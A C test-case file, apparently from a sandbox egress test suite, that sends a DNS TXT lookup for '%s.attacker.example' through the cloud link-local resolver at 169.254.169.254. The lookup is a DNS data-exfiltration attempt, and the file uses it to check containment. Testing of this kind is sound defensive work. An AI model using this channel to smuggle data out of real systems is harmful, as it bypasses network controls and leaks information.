// SPDX-License-Identifier: Apache-2.0
/* Clouds serve a resolver beside their metadata. */
#include "../case.h"

static void attempt(const struct target *t, struct attempt *a)
{
	dns_tell(t, a, SOCK_DGRAM, t->family == AF_INET ? "169.254.169.254" : "fd00:ec2::254", 53,
		 "%s.attacker.example", DNS_TXT);
}

CASE(dns_link_local) = { .title = "The link-local resolver 169.254.169.254",
			 .source = "field A11, B13",
			 .group = "resolver",
			 .families = FOUR | SIX,
			 .settings = EVERYWHERE,
			 .attempt = attempt };
